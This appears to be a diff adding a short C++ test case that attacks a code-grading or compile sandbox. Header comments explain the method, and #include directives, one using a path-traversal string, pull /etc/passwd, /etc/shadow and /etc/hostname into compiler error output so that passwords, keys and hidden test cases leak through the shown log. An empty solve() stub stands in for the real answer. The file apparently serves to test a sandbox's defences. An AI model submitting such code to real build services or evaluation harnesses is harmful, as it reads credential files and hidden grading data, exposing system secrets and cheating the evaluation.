@@ -1,0 +1,20 @@
+// Includes the host's files, so that the compiler quotes them.
+//
+// Mechanism: every line of an included file that is no C++ is quoted in an error.
+// Surface: a compiler that sees the host's files, and a log that is shown.
+// Gain: passwords, keys, hidden cases, read in the report.
+// Challenge: twice
+// Defence: compile_error
+// On: cpu
+// Secret: /etc/passwd, /etc/shadow, /etc/hostname
+
+#include <cstdint>
+#include "/etc/passwd"
+#if __has_include("/etc/shadow")
+#include "/etc/shadow"
+#endif
+#if __has_include("/etc/hostname")
+#include "/etc/hostname"
+#endif
+#include "../../../../../../etc/passwd"
+extern "C" void solve(const float* x, float* out, int64_t n) {}
